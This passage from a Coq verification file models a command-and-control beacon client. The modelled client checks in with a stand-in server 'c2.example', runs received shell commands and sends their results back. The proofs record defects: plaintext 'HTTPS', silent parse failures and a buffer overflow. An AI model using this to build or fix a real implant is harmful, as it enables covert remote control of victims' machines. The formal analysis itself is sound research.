Proof. vm_compute. split; reflexivity. Qed.

(** C7 (as amended). Decoding yields the empty command list for every
    body and never an error; a check-in whose reply reads status 200
    returns 0 with no command whatever the body is, and -1 otherwise. *)
Theorem decoding_never_fails :
  (forall json, parse_commands_json json = [])
  /\ (forall config sysinfo results n raw,
        fst (checkin parse_commands_json config sysinfo results n
                     (NetReply raw))
        = (if parse_status raw =? 200 then 0 else -1, [])).
Proof.
  split.
  - apply parse_commands_json_nil.
  - intros config sysinfo results n raw. rewrite checkin_reply.
    destruct (parse_status raw =? 200); cbn; [| reflexivity].
    rewrite parse_commands_json_nil. reflexivity.
Qed.

(** C7 (as stated) fails: a body that cannot be parsed as a document is
    answered like a document without commands, with return value 0 and an
    empty list; no protocol error is reported. *)
Lemma unparseable_body_is_not_an_error :
  let config := sample_config "http://c2.example/api" in
  fst (http_checkin parse_commands_json config None None 0
         (reply "HTTP/1.1 200 OK" "<html>busy</html>")) = (0, [])
  /\ fst (http_checkin parse_commands_json config None None 0
            (reply "HTTP/1.1 200 OK" "{}")) = (0, [])
  /\ parse_commands_json (lit "<html>busy</html>") = parse_commands_json (lit "{}").
Proof. vm_compute. repeat split; reflexivity. Qed.

(** C5. [https_request] opens the same plain TCP connection as
    [http_request] and sends the request in the clear; there is no TLS
    handshake, the verify flag is not looked at, and the call returns 0
    like a successful request. *)
Theorem https_request_is_plaintext
    (method url headers : cstring) (body : option cstring) (verify : Z)
    (raw : list ascii) :
  let '(host, port, path, _) := parse_url url in
  let '(request, request_len) := build_request method path host headers body in
  https_request method url headers body (NetReply raw) verify
  = (0, mk_response (parse_status raw) (Some raw) (strlen raw),
     [EvResolve host; EvConnect host (htons port);
      EvSend (content request) request_len; EvRecv raw]).
Proof.
  unfold https_request, http_request.
  destruct (parse_url url) as [[[h p] pa] ssl].
  destruct (build_request method pa h headers body) as [rq len].
  reflexivity.
Qed.

(** The failing input of C5: a TLS URL with the verify flag set. *)
Example https_checkin_in_the_clear :
  let config :=
    mk_config (lit "https://c2.example/api") (lit "b-1") (lit "UA") 60 10 1 [] in
  let '(rc, _, evs) :=
    https_checkin parse_commands_json config None None 0
                  (reply "HTTP/1.1 200 OK" "{}") in
  rc = 0
  /\ occurrences is_tls evs = O
  /\ firstn 3 evs
     = [EvResolve (lit "c2.example"); EvConnect (lit "c2.example") 443;
        EvSend (lit "GET /api HTTP/1.1" ++ CRLF
                ++ lit "Host: c2.example" ++ CRLF
                ++ lit "User-Agent: UA" ++ CRLF
                ++ lit "Content-Type: application/json" ++ CRLF
                ++ lit "X-Beacon-ID: b-1" ++ CRLF
                ++ lit "Connection: close" ++ CRLF ++ CRLF) 124].
Proof. vm_compute. repeat split; reflexivity. Qed.

(** ** The output of a shell command *)

Lemma c_str_no_nul raw : no_nul raw = true -> c_str raw = raw.
Proof.
  induction raw as [| c rest IH]; cbn; [reflexivity |].
  destruct (Ascii.eqb c NUL); cbn; [discriminate |].
  intros H. rewrite IH by exact H. reflexivity.
Qed.

Lemma no_nul_app a b : no_nul (a ++ b) = no_nul a && no_nul b.
Proof. unfold no_nul. apply forallb_app. Qed.

Lemma fgets_chunk_split n : forall stream chunk rest,
  fgets_chunk n stream = (chunk, rest) ->
  stream = chunk ++ rest /\ (length chunk <= n)%nat.
Proof.
  induction n as [| n IH]; intros stream chunk rest H; cbn in H.
  - inversion H; subst. split; [reflexivity | cbn; lia].
  - destruct stream as [| c tl].
    + inversion H; subst. split; [reflexivity | cbn; lia].
    + destruct (Ascii.eqb c LF).
      * inversion H; subst. split; [reflexivity | cbn; lia].
      * destruct (fgets_chunk n tl) as [chunk' rest'] eqn:E.
        inversion H; subst.
        destruct (IH _ _ _ E) as [-> Hlen]. split; [reflexivity | cbn; lia].
Qed.

(** A call of [fgets] that returns a buffer has consumed it from the
    stream, at least one byte and at most [size - 1]. *)
Lemma fgets_split_gen n stream buffer rest :
  fgets (S (S n)) stream = Some (buffer, rest) ->
  stream = buffer ++ rest /\ (1 <= length buffer <= S n)%nat.
Proof.
  unfold fgets. destruct stream as [| c tl]; [discriminate |].
  replace (S (S n) - 1)%nat with (S n) by lia.
  intros H.
  assert (H' : fgets_chunk (S n) (c :: tl) = (buffer, rest)) by congruence.
  clear H.
  destruct (fgets_chunk_split _ _ _ _ H') as [Heq Hlen].
  split; [exact Heq |]. split; [| exact Hlen].
  destruct buffer; [| cbn; lia].
  cbn [fgets_chunk] in H'.
  destruct (Ascii.eqb c LF); [discriminate |].
  destruct (fgets_chunk n tl). discriminate.
Qed.

Lemma fgets_split stream buffer rest :
  fgets 1024 stream = Some (buffer, rest) ->
  stream = buffer ++ rest /\ (1 <= length buffer <= 1023)%nat.
Proof. apply (fgets_split_gen 1022). Qed.

Lemma c_str_length raw : (length (c_str raw) <= length raw)%nat.
Proof.
  induction raw as [| c rest IH]; cbn; [lia |].
  destruct (Ascii.eqb c NUL); cbn; lia.
Qed.

Lemma take_strlen (s : cstring) : take (Z.to_nat (strlen s)) s = s.
Proof. unfold strlen. rewrite Nat2Z.id. apply firstn_all. Qed.

Lemma strlen_app (a b : cstring) : strlen (a ++ b) = strlen a + strlen b.
Proof. unfold strlen. rewrite length_app. lia. Qed.

(** The loop keeps every write inside the array and the string below
    [output_size - 1] bytes. *)
Lemma shell_read_loop_safe size fuel : forall stream out total,
  overflow out = false -> total = strlen (content out) -> total <= size - 2 ->
  let '(out', total') := shell_read_loop fuel size stream out total in
  overflow out' = false /\ total' = strlen (content out')
  /\ total' <= size - 2.
Proof.
  induction fuel as [| fuel IH]; intros stream out total Hov Htot Hle; cbn.
  - auto.
  - destruct (fgets 1024 stream) as [[buffer rest] |]; [| auto].
    destruct (Z.ltb_spec total (size - 1)); [| auto].
    destruct (Z.ltb_spec (total + strlen (c_str buffer)) (size - 1)); [| auto].
    apply IH.
    + cbn. rewrite Hov. cbn. apply Z.ltb_ge. lia.
    + cbn. rewrite Htot, take_strlen, strlen_app. reflexivity.
    + lia.
Qed.

(** Fuel: any number of rounds from [length stream] on gives the same
    result, so the loop is modelled to its end. *)
Lemma shell_read_loop_fuel size f1 : forall f2 stream out total,
  (length stream <= f1)%nat -> (length stream <= f2)%nat ->
  shell_read_loop f1 size stream out total
  = shell_read_loop f2 size stream out total.
Proof.
  induction f1 as [| f1 IH]; intros f2 stream out total H1 H2.
  - destruct stream; [| cbn in H1; lia].
    destruct f2; reflexivity.
  - destruct f2 as [| f2].
    + destruct stream; [reflexivity | cbn in H2; lia].
    + cbn. destruct (fgets 1024 stream) as [[buffer rest] |] eqn:Eg;
        [| reflexivity].
      destruct (fgets_split _ _ _ Eg) as [-> [Hb1 Hb2]].
      rewrite length_app in H1, H2.
      destruct (total <? size - 1); [| reflexivity].
      destruct (total + strlen (c_str buffer) <? size - 1); [| reflexivity].
      apply IH; lia.
Qed.

(** On a stream without NUL bytes what is stored is a prefix of the
    stream, and either the whole stream or all but at most the last 1023
    bytes that fit. *)
Lemma shell_read_loop_prefix size fuel : forall stream out total,
  no_nul stream = true -> total = strlen (content out) ->
  (length stream <= fuel)%nat ->
  let '(out', total') := shell_read_loop fuel size stream out total in
  exists stored,
    content out' = content out ++ stored /\ stored `prefix_of` stream
    /\ (stored = stream \/ size - 1024 <= strlen (content out')).
Proof.
  induction fuel as [| fuel IH]; intros stream out total Hnn Htot Hfuel; cbn.
  - destruct stream; [| cbn in Hfuel; lia].
    nothing_stored. left; reflexivity.
  - destruct (fgets 1024 stream) as [[buffer rest] |] eqn:Eg.
    2: { unfold fgets in Eg. destruct stream; [| discriminate].
         nothing_stored. left; reflexivity. }
    destruct (fgets_split _ _ _ Eg) as [-> [Hb1 Hb2]].
    rewrite no_nul_app in Hnn. apply andb_prop in Hnn as [Hnb Hnr].
    rewrite (c_str_no_nul buffer Hnb).
    destruct (Z.ltb_spec total (size - 1)).
    2: { nothing_stored. right. lia. }
    destruct (Z.ltb_spec (total + strlen buffer) (size - 1)).
    2: { nothing_stored. right. unfold strlen in *. lia. }
    specialize (IH rest (strcpy_at size out total buffer)
                   (total + strlen buffer) Hnr).
    destruct (shell_read_loop fuel size rest _ _) as [out' total'].
    destruct IH as (stored & Hc & Hp & Hs).
    + cbn. rewrite Htot, take_strlen, strlen_app. reflexivity.
    + rewrite length_app in Hfuel. lia.
    + exists (buffer ++ stored). split; [| split].
      * rewrite Hc. cbn. rewrite Htot, take_strlen, <- app_assoc. reflexivity.
      * apply prefix_app. exact Hp.
      * destruct Hs as [-> | Hs]; [left; reflexivity | right; exact Hs].
Qed.

(** C8 (as amended). Whatever the subprocess prints, no write leaves the
    output array, the stored output has at most [MAX_OUTPUT_SIZE - 2]
    bytes, and the return value is the success flag of the exit status:
    no error is raised.  The output is cut between two reads of the pipe,
    not at the limit: of a stream without NUL bytes a prefix is stored,
    which is the whole stream or has at least [MAX_OUTPUT_SIZE - 1024]
    bytes. *)
Theorem shell_output_bounded (cmdline : cstring) (h : host_env) :
  let '(rc, out, _) := execute_shell_command cmdline MAX_OUTPUT_SIZE h in
  overflow out = false
  /\ strlen (content out) <= MAX_OUTPUT_SIZE - 2
  /\ (forall stream status,
        popen h cmdline = PopenRuns stream status ->
        rc = (if status =? 0 then 1 else 0)
        /\ (no_nul stream = true ->
            content out `prefix_of` stream
            /\ (content out = stream
                \/ MAX_OUTPUT_SIZE - 1024 <= strlen (content out)))).
Proof.
  unfold execute_shell_command.
  destruct (popen h cmdline) as [| stream status] eqn:Ep.
  - cbn. split; [reflexivity |]. split; [vm_compute; discriminate |].
    intros stream status Heq. discriminate Heq.
  - pose proof (shell_read_loop_safe MAX_OUTPUT_SIZE (length stream) stream
                  cbuf_empty 0 eq_refl eq_refl) as Hsafe.
    pose proof (shell_read_loop_prefix MAX_OUTPUT_SIZE (length stream) stream
                  cbuf_empty 0) as Hpre.
    destruct (shell_read_loop (length stream) MAX_OUTPUT_SIZE stream
                cbuf_empty 0) as [out total].
    destruct Hsafe as (Hov & Htot & Hle); [unfold MAX_OUTPUT_SIZE; lia |].
    split; [exact Hov |]. split; [lia |].
    intros stream' status' Heq. injection Heq as <- <-.
    split; [reflexivity |].
    intros Hnn. destruct (Hpre Hnn eq_refl (le_n _)) as (stored & Hc & Hp & Hs).
    cbn in Hc. subst stored. auto.
Qed.

(** C8 (as stated) fails: of 17 lines of 1000 bytes, 17000 bytes in all,
    the first 16 lines are stored, 16000 bytes, and not the 16383 that
    the array can hold. *)
Lemma long_output_cut_below_limit :
  let stream := concat (replicate 17 (replicate 999 (ascii_of_nat 65) ++ [LF])) in
  let h := mk_host (lit "2024-05-01T10:00:00Z") (fun _ => PopenRuns stream 0)
                   (Some (lit "/tmp")) in
  let out := snd (fst (execute_shell_command (lit "yes") MAX_OUTPUT_SIZE h)) in
  strlen stream = 17000
  /\ strlen (content out) = 16000
  /\ strlen (content out) <> MAX_OUTPUT_SIZE - 1
  /\ strlen (content out) <> MAX_OUTPUT_SIZE.
Proof. vm_compute. repeat split; discriminate. Qed.

(** ** The payloads *)

Lemma snprintf_at_start cap s :
  0 < cap ->
  snprintf_at cap cbuf_empty 0 s = (mk_cbuf (snprintf cap s) false, strlen s).
Proof.
  intros Hcap. unfold snprintf_at, snprintf.
  destruct (Z.ltb_spec 0 cap); [| lia].
  replace (cap - 0 - 1) with (cap - 1) by lia. reflexivity.
Qed.

Lemma snprintf_at_offset cap buf offset s :
  snd (snprintf_at cap buf offset s) = strlen s.
Proof.
  unfold snprintf_at.
  destruct (offset <? cap); [reflexivity |].
  destruct (offset =? cap); reflexivity.
Qed.

Lemma strlen_nonneg (s : cstring) : 0 <= strlen s.
Proof. unfold strlen. lia. Qed.

(** A write at [offset] leaves what the array holds before it. *)
Lemma snprintf_at_keeps_prefix cap buf offset s (p : cstring) :
  p `prefix_of` content buf -> strlen p <= offset ->
  p `prefix_of` content (fst (snprintf_at cap buf offset s)).
Proof.
  intros [tail Hp] Hlen. unfold snprintf_at.
  destruct (offset <? cap); [| destruct (offset =? cap); cbn; exists tail; exact Hp].
  cbn. rewrite Hp.
  rewrite take_app_ge by (unfold strlen in Hlen; lia).
  rewrite <- app_assoc. apply prefix_app_r. reflexivity.
Qed.

Lemma results_loop_keeps_prefix (p : cstring) rs : forall i buf offset,
  p `prefix_of` content buf -> strlen p <= offset ->
  p `prefix_of` content (fst (results_loop i rs buf offset))
  /\ strlen p <= snd (results_loop i rs buf offset).
Proof.
  induction rs as [| r rest IH]; intros i buf offset Hp Hlen; cbn.
  - split; assumption.
  - destruct (offset <? MAX_BUFFER_SIZE - 256); [| split; assumption].
    pose proof (snprintf_at_keeps_prefix MAX_BUFFER_SIZE buf offset
                  (result_json i r) p Hp Hlen) as Hk.
    pose proof (snprintf_at_offset MAX_BUFFER_SIZE buf offset
                  (result_json i r)) as Ho.
    destruct (snprintf_at MAX_BUFFER_SIZE buf offset (result_json i r))
      as [buf' n].
    cbn in Hk, Ho. apply IH; [exact Hk |].
    pose proof (strlen_nonneg (result_json i r)). lia.
Qed.

Lemma payload_opening_length config :
  strlen (payload_opening config) = 50 + strlen (beacon_id config).
Proof.
  unfold payload_opening, jstr, jkey, quoted, strlen.
  repeat (rewrite ?length_app, ?length_cons). cbn. lia.
Qed.

(** A text that begins with the opening keeps it when it is cut to the
    size of the payload array. *)
Lemma snprintf_keeps_opening config tail :
  strlen (beacon_id config) < BEACON_ID_LEN ->
  payload_opening config
  `prefix_of` snprintf MAX_BUFFER_SIZE (payload_opening config ++ tail).
Proof.
  intros Hid. unfold snprintf.
  pose proof (payload_opening_length config) as Hl.
  rewrite take_app_ge
    by (unfold strlen, BEACON_ID_LEN, MAX_BUFFER_SIZE in *; lia).
  apply prefix_app_r. reflexivity.
Qed.

Lemma first_checkin_json_opening config si :
  exists tail, first_checkin_json config si = payload_opening config ++ tail.
Proof.
  unfold first_checkin_json, payload_opening. eexists.
  rewrite <- !app_assoc. reflexivity.
Qed.

Lemma regular_checkin_json_opening config :
  regular_checkin_json config = payload_opening config ++ lit "}".
Proof.
  unfold regular_checkin_json, payload_opening.
  rewrite <- !app_assoc. reflexivity.
Qed.

Lemma results_header_json_opening config :
  results_header_json config
  = payload_opening config ++ lit "," ++ jkey "command_results" ++ lit "[".
Proof.
  unfold results_header_json, payload_opening.
  rewrite <- !app_assoc. reflexivity.
Qed.

Lemma results_checkin_json_opening config results n :
  strlen (beacon_id config) < BEACON_ID_LEN ->
  payload_opening config
  `prefix_of` content (results_checkin_json config results n).
Proof.
  intros Hid. unfold results_checkin_json.
  rewrite snprintf_at_start by reflexivity.
  assert (H0 : payload_opening config
               `prefix_of` snprintf MAX_BUFFER_SIZE (results_header_json config)).
  { rewrite results_header_json_opening. apply snprintf_keeps_opening, Hid. }
  assert (H1 : strlen (payload_opening config)
               <= strlen (results_header_json config)).
  { rewrite results_header_json_opening, strlen_app.
    pose proof (strlen_nonneg (lit "," ++ jkey "command_results" ++ lit "[")).
    lia. }
  destruct (results_loop_keeps_prefix (payload_opening config)
              (take (Z.to_nat n) results) O
              (mk_cbuf (snprintf MAX_BUFFER_SIZE (results_header_json config)) false)
              (strlen (results_header_json config)) H0 H1) as [Hp Hl].
  destruct (results_loop 0 (take (Z.to_nat n) results) _ _) as [b1 offset1].
  cbn in Hp, Hl. apply snprintf_at_keeps_prefix; assumption.
Qed.

(** The timestamp of a result is the clock reading of its execution. *)
Lemma execute_command_timestamp cmd h running :
  timestamp (fst (fst (fst (execute_command cmd h running)))) = clock h.
Proof.
  unfold execute_command, get_current_timestamp.
  destruct (streq (command cmd) (lit "shell")).
  - destruct (execute_shell_command (args cmd) MAX_OUTPUT_SIZE h) as [[ok out] evs].
    reflexivity.
  - destruct (streq (command cmd) (lit "pwd")).
    + destruct (getcwd h); reflexivity.
    + destruct (streq (command cmd) (lit "exit")); reflexivity.
Qed.

(** The loop on records that fit: each one is printed in full behind the
    text the array holds. *)
Lemma results_loop_fits rs : forall i (pre : cstring) ov,
  (forall k, (k < length rs)%nat ->
     strlen (pre ++ results_json i (take k rs)) < MAX_BUFFER_SIZE - 256) ->
  strlen (pre ++ results_json i rs) < MAX_BUFFER_SIZE ->
  results_loop i rs (mk_cbuf pre ov) (strlen pre)
  = (mk_cbuf (pre ++ results_json i rs) ov, strlen (pre ++ results_json i rs)).
Proof.
  induction rs as [| r rest IH]; intros i pre ov Hk Htot; cbn.
  - rewrite app_nil_r. reflexivity.
  - pose proof (Hk O ltac:(cbn; lia)) as H0. cbn in H0.
    rewrite app_nil_r in H0.
    destruct (Z.ltb_spec (strlen pre) (MAX_BUFFER_SIZE - 256)); [| lia].
    cbn in Htot. rewrite !strlen_app in Htot.
    pose proof (strlen_nonneg (results_json (S i) rest)) as Hn.
    unfold snprintf_at. cbn [content overflow].
    destruct (Z.ltb_spec (strlen pre) MAX_BUFFER_SIZE);
      [| unfold MAX_BUFFER_SIZE in *; lia].
    rewrite take_strlen.
    rewrite (take_ge (result_json i r)) by (unfold strlen in *; lia).
    rewrite <- strlen_app.
    rewrite IH.
    + rewrite <- !app_assoc. reflexivity.
    + intros k Hlt. specialize (Hk (S k) ltac:(cbn; lia)). cbn in Hk.
      rewrite <- app_assoc. exact Hk.
    + rewrite <- app_assoc, !strlen_app. lia.
Qed.

Lemma results_checkin_json_fits config results n :
  fits_payload config (take (Z.to_nat n) results) ->
  results_checkin_json config results n
  = mk_cbuf (result_bearing_shape config (take (Z.to_nat n) results)) false.
Proof.
  intros [Hk Htot]. unfold results_checkin_json.
  set (rs := take (Z.to_nat n) results) in *.
  unfold result_bearing_shape in Htot.
  rewrite !strlen_app in Htot.
  pose proof (strlen_nonneg (results_json 0 rs)) as Hn.
  change (strlen (lit "]}")) with 2 in Htot.
  rewrite snprintf_at_start by reflexivity.
  unfold snprintf.
  rewrite (take_ge (results_header_json config))
    by (unfold strlen, MAX_BUFFER_SIZE in *; lia).
  rewrite results_loop_fits; [| exact Hk | rewrite strlen_app; lia].
  unfold snprintf_at. cbn [content overflow fst].
  rewrite strlen_app.
  destruct (Z.ltb_spec (strlen (results_header_json config)
                        + strlen (results_json 0 rs)) MAX_BUFFER_SIZE); [| lia].
  rewrite <- strlen_app, take_strlen.
  rewrite (take_ge (lit "]}")).
  2: { rewrite strlen_app. change (length (lit "]}")) with 2%nat.
       unfold MAX_BUFFER_SIZE in *. lia. }
  unfold result_bearing_shape. rewrite <- app_assoc. reflexivity.
Qed.


(** A body that fills the payload array does not fit the array of the
    transport behind the request line and the headers: it is cut there,
    and the length passed to [send] exceeds the array. *)
Example http_request_cuts_long_body :
  let body := replicate (Z.to_nat 8150) (ascii_of_nat 65) in
  let '(request, request_len) :=
    build_request (lit "POST") (lit "/api") (lit "c2.example")
                  (checkin_headers (sample_config "http://c2.example/api"))
                  (Some body) in
  strlen (content request) = MAX_BUFFER_SIZE - 1
  /\ request_len = 8366
  /\ MAX_BUFFER_SIZE < request_len.
Proof. vm_compute. repeat split; reflexivity. Qed.


(** Two small results fit, and the body is then the shape with both. *)
Example http_checkin_sends_both_results :
  let config := sample_config "http://c2.example/api" in
  let queued := [sample_result "c1" "done"; sample_result "c2" "/tmp"] in
  fits_payload config queued
  /\ req_data (http_checkin_request config None
                 (Some (queued ++ replicate 62 result_zero)) 2)
     = Some (result_bearing_shape config queued).
Proof.
  cbv zeta. split.
  - split.
    + intros k Hk. destruct k as [| [| k]]; [| | cbn in Hk; lia];
        vm_compute; reflexivity.
    + vm_compute. reflexivity.
  - vm_compute. reflexivity.
Qed.


(** A result that does not fit the payload array is cut at its end, and
    the closing text is then written behind the array: the size passed to
    the last [snprintf] has wrapped around. *)
Example oversized_result_writes_behind_payload_array :
  let big := mk_result (lit "c1") 1 (replicate (Z.to_nat 16000) (ascii_of_nat 65))
                       (lit "2024-05-01T10:00:00Z") in
  let rq := http_checkin_request (sample_config "http://c2.example/api") None
              (Some (big :: replicate 63 result_zero)) 1 in
  strlen (content (req_json rq)) = MAX_BUFFER_SIZE - 1
  /\ overflow (req_json rq) = true.
Proof. vm_compute. split; reflexivity. Qed.

(** On the HTTPS path the buffer is never looked at: the regular check-in
    is a GET without a body whatever is queued. *)
Lemma https_checkin_sends_no_results config results result_count :
  let rq := https_checkin_request config None results result_count in
  req_method rq = lit "GET" /\ req_data rq = None.
Proof. split; reflexivity. Qed.

(** ** Framing of the strings *)

Lemma starts_with_app p s : starts_with p (p ++ s) = true.
Proof.
  induction p as [| c p IH]; cbn; [reflexivity |].
  rewrite Ascii.eqb_refl. exact IH.
Qed.

Lemma expect_app p s : expect p (p ++ s) = Some s.
Proof.
  unfold expect. rewrite starts_with_app, drop_app_length. reflexivity.
Qed.

Lemma scan_json_string_plain v : forall rest,
  plain v = true -> scan_json_string (v ++ DQUOTE :: rest) = Some (v, rest).
Proof.
  induction v as [| c v IH]; intros rest Hp; cbn.
  - reflexivity.
  - cbn in Hp. unfold plain_char in Hp.
    apply andb_prop in Hp as [Hc Hv]. apply andb_prop in Hc as [Hc H32].
    apply andb_prop in Hc as [Hq Hb].
    apply negb_true_iff in Hq, Hb. apply Z.leb_le in H32.
    rewrite Hq, Hb.
    destruct (Z.ltb_spec (code c) 32); [lia |].
    rewrite IH by exact Hv. reflexivity.
Qed.

Lemma decode_field_jstr k v rest :
  plain v = true -> decode_field k (jstr k v ++ rest) = Some (v, rest).
Proof.
  intros Hp. unfold decode_field, jstr, quoted.
  generalize (jkey k). intros key.
  replace ((key ++ DQUOTE :: v ++ [DQUOTE]) ++ rest)
    with ((key ++ [DQUOTE]) ++ v ++ DQUOTE :: rest).
  - rewrite expect_app. apply scan_json_string_plain, Hp.
  - rewrite <- !app_assoc. cbn. rewrite <- app_assoc. reflexivity.
Qed.

Lemma decode_bool_app (b : bool) (rest : cstring) :
  decode_bool ((if b then lit "false" else lit "true") ++ rest)
  = Some (negb b, rest).
Proof. destruct b; reflexivity. Qed.


(** * Further properties of the code *)

(** ** Strings *)

Lemma streq_eq a : forall b, streq a b = true -> a = b.
Proof.
  induction a as [| x a IH]; intros [| y b] H; cbn in H;
    try discriminate; [reflexivity |].
  apply andb_prop in H as [Hx Hab].
  apply Ascii.eqb_eq in Hx. rewrite (IH b Hab), Hx. reflexivity.
Qed.

Lemma streq_neq a b : a <> b -> streq a b = false.
Proof.
  intros Hne. destruct (streq a b) eqn:E; [| reflexivity].
  destruct (Hne (streq_eq a b E)).
Qed.

(** ** What a command does *)

Lemma execute_command_result cmd h running :
  fst (fst (fst (execute_command cmd h running))) = command_result cmd h.
Proof.
  unfold command_result, execute_command.
  destruct (streq (command cmd) (lit "shell")).
  - destruct (execute_shell_command (args cmd) MAX_OUTPUT_SIZE h) as [[ok out] evs].
    reflexivity.
  - destruct (streq (command cmd) (lit "pwd")).
    + destruct (getcwd h); reflexivity.
    + destruct (streq (command cmd) (lit "exit")); reflexivity.
Qed.

Lemma execute_shell_command_events cmdline size h :
  snd (execute_shell_command cmdline size h) = [EvPopen cmdline].
Proof.
  unfold execute_shell_command.
  destruct (popen h cmdline) as [| stream status]; [reflexivity |].
  destruct (shell_read_loop _ _ _ _ _). reflexivity.
Qed.

Lemma execute_command_events cmd h running :
  forallb is_popen (snd (execute_command cmd h running)) = true.
Proof.
  unfold execute_command.
  destruct (streq (command cmd) (lit "shell")).
  - pose proof (execute_shell_command_events (args cmd) MAX_OUTPUT_SIZE h) as He.
    destruct (execute_shell_command (args cmd) MAX_OUTPUT_SIZE h) as [[ok out] evs].
    cbn in *. rewrite He. reflexivity.
  - destruct (streq (command cmd) (lit "pwd")).
    + destruct (getcwd h); reflexivity.
    + destruct (streq (command cmd) (lit "exit")); reflexivity.
Qed.

Lemma process_commands_events commands : forall i host st,
  forallb is_popen (snd (process_commands commands i host st)) = true.
Proof.
  induction commands as [| cmd rest IH]; intros i host st; cbn.
  - reflexivity.
  - destruct (g_result_count st <? 64); [| apply IH].
    pose proof (execute_command_events cmd (host i) (g_running st)) as He.
    destruct (execute_command cmd (host i) (g_running st))
      as [[[r running] ov] evs].
    match goal with
    | |- context [process_commands rest (S i) host ?s] =>
        specialize (IH (S i) host s)
    end.
    destruct (process_commands rest (S i) host _) as [st'' evs'].
    cbn in *. rewrite forallb_app, He, IH. reflexivity.
Qed.

Lemma occurrences_app kind a b :
  occurrences kind (a ++ b) = (occurrences kind a + occurrences kind b)%nat.
Proof. unfold occurrences. rewrite List.filter_app, length_app. reflexivity. Qed.

Lemma occurrences_cons kind e tr :
  occurrences kind (e :: tr)
  = ((if kind e then 1 else 0) + occurrences kind tr)%nat.
Proof. unfold occurrences. cbn. destruct (kind e); reflexivity. Qed.

(** Subprocess calls are neither pauses nor requests. *)
Lemma only_popen_occurrences evs :
  forallb is_popen evs = true ->
  occurrences is_sleep evs = O /\ occurrences is_send evs = O.
Proof.
  induction evs as [| e evs IH]; intros H; [split; reflexivity |].
  cbn in H. apply andb_prop in H as [He Ht].
  destruct (IH Ht) as [H1 H2].
  rewrite !occurrences_cons, H1, H2.
  destruct e; cbn in He; try discriminate. auto.
Qed.

(** ** The order of the results *)

Lemma process_commands_buffer commands : forall i host st,
  length (g_results st) = 64%nat -> 0 <= g_result_count st <= 64 ->
  let st' := fst (process_commands commands i host st) in
  result_buffer st'
  = result_buffer st
    ++ imap (fun j cmd => command_result cmd (host (i + j)%nat))
            (take (64 - Z.to_nat (g_result_count st)) commands)
  /\ g_result_count st'
     = Z.min (g_result_count st + Z.of_nat (length commands)) 64
  /\ length (g_results st') = 64%nat.
Proof.
  induction commands as [| cmd rest IH]; intros i host st Hlen Hc; cbn zeta.
  - cbn. rewrite take_nil, app_nil_r. repeat split; [lia | exact Hlen].
  - cbn [process_commands].
    destruct (Z.ltb_spec (g_result_count st) 64) as [Hlt | Hge].
    + pose proof (execute_command_result cmd (host i) (g_running st)) as Hr.
      destruct (execute_command cmd (host i) (g_running st))
        as [[[r running] ov] evs].
      cbn in Hr. subst r.
      set (c := Z.to_nat (g_result_count st)).
      assert (Hcn : (c < 64)%nat) by (unfold c; lia).
      match goal with
      | |- context [process_commands rest (S i) host ?s] =>
          specialize (IH (S i) host s)
      end.
      cbn [g_results g_result_count] in IH.
      specialize (IH ltac:(rewrite length_insert; exact Hlen) ltac:(lia)).
      destruct (process_commands rest (S i) host _) as [st'' evs'].
      cbn [fst] in *. destruct IH as (Hbuf & Hcount & Hlen').
      split; [| split; [| exact Hlen']].
      * rewrite Hbuf. unfold result_buffer. cbn [g_results g_result_count].
        replace (Z.to_nat (g_result_count st + 1)) with (S c)
          by (unfold c; lia).
        rewrite (take_S_r _ c (command_result cmd (host i)))
          by (apply list_lookup_insert_eq; lia).
        rewrite take_insert_ge by lia.
        replace (64 - c)%nat with (S (63 - c)) by lia.
        replace (64 - S c)%nat with (63 - c)%nat by lia.
        cbn [take]. change (firstn (63 - c) rest) with (take (63 - c) rest).
        rewrite imap_cons, Nat.add_0_r, <- app_assoc. cbn [app].
        do 2 f_equal. apply imap_ext. intros j x _. cbn.
        f_equal. f_equal. lia.
      * rewrite Hcount. cbn [length]. lia.
    + assert (Hfull : g_result_count st = 64) by lia.
      rewrite process_commands_full by lia. cbn [fst].
      rewrite Hfull. replace (64 - Z.to_nat 64)%nat with O by lia.
      rewrite take_0. cbn. rewrite app_nil_r.
      repeat split; [lia | exact Hlen].
Qed.

(** X1. After a successful check-in the buffer holds the results of the
    received commands in the order of the commands, one for each of the
    first 64; the commands behind the 64th leave no result. *)
Theorem results_stored_in_command_order
    (commands : list command_t) (host : nat -> host_env) (st : beacon_state) :
  length (g_results st) = 64%nat ->
  let cleared := mk_state (g_sysinfo st) (g_running st) (g_results st) 0 in
  let st' := fst (process_commands commands O host cleared) in
  result_buffer st'
  = imap (fun i cmd => command_result cmd (host i)) (take 64 commands)
  /\ g_result_count st' = Z.min (Z.of_nat (length commands)) 64.
Proof.
  intros Hlen cleared st'.
  destruct (process_commands_buffer commands O host cleared Hlen
              ltac:(cbn; lia)) as (Hbuf & Hcount & _).
  fold st' in Hbuf, Hcount. split.
  - rewrite Hbuf. reflexivity.
  - rewrite Hcount. reflexivity.
Qed.

Lemma results_stored_in_command_order_witness :
  length (g_results (running_with [])) = 64%nat
  /\ result_buffer
       (fst (process_commands
               [mk_command (lit "c1") (lit "pwd") [];
                mk_command (lit "c2") (lit "whoami") []] O
               (fun _ => quiet_host)
               (mk_state (g_sysinfo (running_with []))
                         (g_running (running_with []))
                         (g_results (running_with [])) 0)))
     = [mk_result (lit "c1") 1 (lit "/tmp") (lit "2024-05-01T10:00:00Z");
        mk_result (lit "c2") 0 (lit "Unknown command: whoami")
                  (lit "2024-05-01T10:00:00Z")].
Proof.
  split; [reflexivity |].
  destruct (results_stored_in_command_order
              [mk_command (lit "c1") (lit "pwd") [];
               mk_command (lit "c2") (lit "whoami") []]
              (fun _ => quiet_host) (running_with []) eq_refl) as [Hbuf _].
  rewrite Hbuf. vm_compute. reflexivity.
Defined.

(** ** The first check-in *)

Lemma http_request_no_popen method url headers body n :
  forallb (fun e => negb (is_popen e))
          (snd (http_request method url headers body n)) = true.
Proof.
  unfold http_request.
  destruct (parse_url url) as [[[h p] pa] ssl].
  destruct (build_request method pa h headers body) as [rq len].
  destruct n; reflexivity.
Qed.

Lemma checkin_no_popen decode config sysinfo results n o :
  forallb (fun e => negb (is_popen e))
          (snd (checkin decode config sysinfo results n o)) = true.
Proof.
  unfold checkin, https_checkin, http_checkin, https_request.
  destruct (starts_with (lit "https://") (server_url config));
    rewrite checkin_outcome_events; apply http_request_no_popen.
Qed.

Lemma no_popen_occurrences evs :
  forallb (fun e => negb (is_popen e)) evs = true ->
  occurrences is_popen evs = O.
Proof.
  induction evs as [| e evs IH]; intros H; [reflexivity |].
  cbn in H. apply andb_prop in H as [He Ht].
  rewrite occurrences_cons, (IH Ht).
